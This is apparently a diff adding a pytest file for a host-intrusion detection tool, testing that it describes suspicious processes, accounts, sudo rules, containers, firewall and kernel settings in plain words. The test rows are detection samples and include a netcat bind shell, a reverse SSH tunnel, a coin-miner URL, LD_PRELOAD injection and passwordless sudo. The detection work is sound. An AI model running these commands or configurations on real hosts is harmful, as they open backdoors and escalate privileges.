@@ -1,0 +1,177 @@
+"""What does a row say by itself? One row an idea, hostile and honest side by side."""
+
+from __future__ import annotations
+
+import pytest
+
+from bot.analysis.places import is_tool, program
+from bot.analysis.semantics import Kind
+from bot.analysis.traits import read, weight
+from bot.model import Change, Row
+
+
+def words(kind: Kind, row: Row, *, expected: Row | None = None, change: Change = Change.ADDED) -> str:
+    """Return the words of all traits of a row."""
+    return "; ".join(trait.words for trait in read(kind, row, change, expected))
+
+
+def process(path: str, cmdline: str = "", user: str = "root", **other: str) -> Row:
+    """Return a row of a query of processes."""
+    return {
+        "name": path.rsplit("/", 1)[-1][:15],
+        "path": path,
+        "cmdline": cmdline or path,
+        "username": user,
+        **other,
+    }
+
+
+@pytest.mark.parametrize(
+    ("kind", "row", "said"),
+    [
+        (Kind.PROCESS, process("/tmp/x"), "a folder that everybody may write to"),
+        (Kind.PROCESS, process("/dev/.udev/x"), "where devices belong"),
+        (Kind.PROCESS, process("/usr/share/nginx/nginx"), "a folder where programs seldom lie"),
+        (Kind.PROCESS, process("/opt/.cache/x"), "a hidden place"),
+        (Kind.PROCESS, process("/memfd:x (deleted)"), "from memory"),
+        (Kind.PROCESS, process("/usr/local/bin/x", on_disk="0"), "was deleted"),
+        (Kind.PROCESS, process("/usr/share/k/kw", "[kworker/u4:3]"), "dressed as a kernel thread"),
+        (Kind.PROCESS, process("", "python3 -c x"), "no program file"),
+        (Kind.PROCESS, process("/usr/bin/bash", "bash -c id", "www-data"), "a shell of the service account www-data"),
+        (Kind.PROCESS, {**process("/usr/bin/perl5"), "name": "sshd"}, ""),
+        (Kind.PROCESS, {**process("/opt/x/run"), "name": "sshd"}, "calls itself another name"),
+        (Kind.PROCESS, process("/usr/bin/bash", "bash -i"), "an interactive shell"),
+        (Kind.PROCESS, process("/usr/bin/nc", "nc -lkp 31337 -e /bin/sh"), "ties a shell to a socket"),
+        (Kind.PROCESS, process("/bin/x", "x stratum+tcp://198.51.100.3:3333"), "mines coins"),
+        (Kind.PROCESS, process("/usr/bin/ssh", "ssh -fNR 2222:localhost:22 u@198.51.100.2"), "opens a tunnel"),
+        (Kind.PROCESS, process("/usr/bin/x", "x /tmp/y"), "names a file in a folder that everybody"),
+        (Kind.PROCESS, process("/usr/bin/x", "x /opt/.y"), "names a hidden file"),
+        (Kind.CONNECTION, {"process_path": "/usr/bin/python3.11", "remote_address": "203.0.113.9", "remote_port": "4444"}, "an unusual port"),
+        (Kind.CONNECTION, {"process_path": "", "remote_address": "10.0.0.9", "remote_port": "443"}, "cannot be seen"),
+        (Kind.LISTENER, {"process_path": "/usr/bin/perl", "port": "9"}, "waits for connections"),
+        (Kind.LISTENER, {"process_path": "", "port": "9", "pid": "-1"}, "no process that can be seen"),
+        (Kind.USER, {"username": "toor", "uid": "0", "shell": "/bin/bash"}, "powers of root"),
+        (Kind.USER, {"username": "x", "uid": "9", "directory": "/var/.x", "shell": ""}, "home is hidden"),
+        (Kind.MOUNT, {"path": "/proc/4242", "type": "ext4"}, "mounted over a process"),
+        (Kind.MOUNT, {"path": "/etc", "type": "ext4"}, "mounted over system files"),
+        (Kind.SUDO, {"rule_details": "ALL=(ALL) NOPASSWD:ALL"}, "without a password"),
+        (Kind.MEMBERSHIP, {"groupname": "docker", "username": "x"}, "can become root"),
+        (Kind.LOGIN_KEY, {"username": "root", "key_file": "/root/.ssh/authorized_keys"}, "opens the root account"),
+        (Kind.LOGIN_KEY, {"username": "x", "options": 'command="x"'}, "starts a command at login"),
+        (Kind.CONTAINER, {"privileged": "1", "security_options": "label=disable"}, "powers of the host"),
+        (Kind.CONTAINER, {"source": "/var/run/docker.sock"}, "host's own files"),
+        (Kind.CONTAINER, {"pid_mode": "host"}, "sees the host's processes"),
+        (Kind.PRIVILEGED_FILE, {"path": "/usr/bin/find"}, "root shell"),
+        (Kind.PRIVILEGED_FILE, {"path": "/usr/bin/x", "value": "cap_setuid=ep"}, "as good as root"),
+        (Kind.PRIVILEGED_FILE, {"path": "/data/x"}, "outside the system's folders"),
+        (Kind.CERTIFICATE, {"ca": "1"}, "vouch for any site"),
+        (Kind.FIREWALL, {"target": "REDIRECT"}, "sends traffic elsewhere"),
+        (Kind.FIREWALL, {"target": "ACCEPT", "src_ip": "203.0.113.9"}, "one public address"),
+        (Kind.FIREWALL, {"target": "DROP", "src_ip": "203.0.113.9"}, "closes something"),
+        (Kind.LOGIN_CONFIG, {"path": "/etc/pam.d/sshd"}, "decides who may log in"),
+        (Kind.NAMES, {"address": "203.0.113.9"}, "points to a public address"),
+        (Kind.INTERFACE, {"flags": "69955"}, "traffic that is not its own"),
+        (Kind.FILE, {"path": "/var/www/html/up/.t.php"}, "the web server may run"),
+        (Kind.ENVIRONMENT, {"key": "LD_PRELOAD", "value": "/x.so"}, "starts with LD_PRELOAD"),
+        (Kind.LOADER, {"path": "/etc/ld.so.preload"}, "forced into every program"),
+        (Kind.AUTOSTART, {"path": "/etc/rc.local", "mode": "0777"}, "everybody may write to it"),
+        (Kind.FILE, {"path": "/usr/bin/x", "mode": "4755"}, "its owner's rights"),
+    ],
+)  # fmt: skip
+def test_a_row_says_what_is_wrong_with_it(kind: Kind, row: Row, said: str) -> None:
+    """The trait is found, in words that need no glossary."""
+    assert said in words(kind, row)
+
+
+@pytest.mark.parametrize(
+    ("kind", "row"),
+    [
+        (Kind.PROCESS, process("/usr/sbin/nginx", "nginx: worker process", "www-data")),
+        (Kind.PROCESS, process("/usr/lib/jvm/java-17/bin/java", "java -jar /opt/svc/svc.jar")),
+        (
+            Kind.CONNECTION,
+            {"process_path": "/usr/sbin/nginx", "remote_address": "10.0.0.9", "remote_port": "8080"},
+        ),
+        (Kind.MOUNT, {"path": "/proc/sys/fs/binfmt_misc", "type": "binfmt_misc"}),
+        (Kind.SYSCTL, {"name": "kernel.tainted", "current_value": "32768"}),
+        (Kind.PRIVILEGED_FILE, {"path": "/usr/bin/passwd"}),
+        (Kind.NAMES, {"address": "10.0.0.2"}),
+        (Kind.INTERFACE, {"flags": "69699"}),
+    ],
+)
+def test_honest_rows_say_nothing(kind: Kind, row: Row) -> None:
+    """A trait that every host shows would be no trait."""
+    assert words(kind, row) == ""
+
+
+@pytest.mark.parametrize(
+    ("name", "before", "after", "said"),
+    [
+        ("kernel.tainted", "0", "12288", "code that nobody signed"),
+        ("kernel.randomize_va_space", "2", "0", "protection of the kernel was lowered"),
+        ("net.ipv4.ip_forward", "0", "1", "protection of the kernel was lowered"),
+        ("net.ipv4.conf.all.rp_filter", "2", "0", "protection of the kernel was lowered"),
+        ("kernel.core_pattern", "core", "|/x", "calls another program"),
+        ("net.ipv4.conf.all.rp_filter", "2", "1", ""),
+        ("kernel.randomize_va_space", "0", "2", ""),
+        ("vm.swappiness", "60", "10", ""),
+    ],
+)
+def test_a_setting_of_the_kernel_is_read_in_its_direction(
+    name: str, before: str, after: str, said: str
+) -> None:
+    """Hardening is no finding; the loss of it is."""
+    row, usual = {"name": name, "current_value": after}, {"name": name, "current_value": before}
+
+    assert (
+        words(Kind.SYSCTL, row, expected=usual, change=Change.CHANGED) == said
+        if not said
+        else said in words(Kind.SYSCTL, row, expected=usual, change=Change.CHANGED)
+    )
+
+
+def test_a_guard_that_was_switched_off_says_more_than_another_service() -> None:
+    """What watches a host is what an intruder stops first."""
+    off, on = {"load_state": "masked"}, {"load_state": "loaded"}
+
+    assert "guard" in words(
+        Kind.UNIT, {"id": "auditd.service", **off}, expected={"id": "auditd.service", **on}
+    )
+    assert (
+        words(Kind.UNIT, {"id": "man-db.service", **off}, expected={"id": "man-db.service", **on})
+        == "was switched off"
+    )
+    assert "guard" in words(Kind.PROCESS, {"path": "/usr/sbin/rsyslogd"}, change=Change.REMOVED)
+    assert words(Kind.PROCESS, {"path": "/usr/bin/less"}, change=Change.REMOVED) == ""
+
+
+def test_an_account_that_could_not_log_in_and_now_can() -> None:
+    """A shell for a service account is how one comes back."""
+    before = {"username": "daemon", "uid": "1", "shell": "/usr/sbin/nologin"}
+
+    assert "now can" in words(
+        Kind.USER, {**before, "shell": "/bin/bash"}, expected=before, change=Change.CHANGED
+    )
+
+
+def test_a_firewall_that_lets_everything_through() -> None:
+    """The policy of a chain went from DROP to ACCEPT."""
+    said = words(Kind.FIREWALL, {"policy": "ACCEPT"}, expected={"policy": "DROP"}, change=Change.CHANGED)
+
+    assert "lets everything through" in said
+
+
+def test_traits_do_not_pile_up() -> None:
+    """The heaviest counts in full, each further one for half of the one before."""
+    traits = read(Kind.PROCESS, process("/tmp/.x/y", on_disk="0"), Change.ADDED, None)
+
+    assert [trait.bits for trait in traits] == sorted((trait.bits for trait in traits), reverse=True)
+    assert traits[0].bits < weight(traits) < 2 * traits[0].bits
+
+
+def test_what_a_row_is_about() -> None:
+    """The program of a process or socket; nothing for a file that is no program."""
+    assert program({"process_path": "/a", "path": "/b"}, Kind.LISTENER) == "/a"
+    assert program({"path": "/b"}, Kind.FILE) == ""
+    assert is_tool("/usr/bin/python3.11")
+    assert not is_tool("/usr/sbin/nginx")
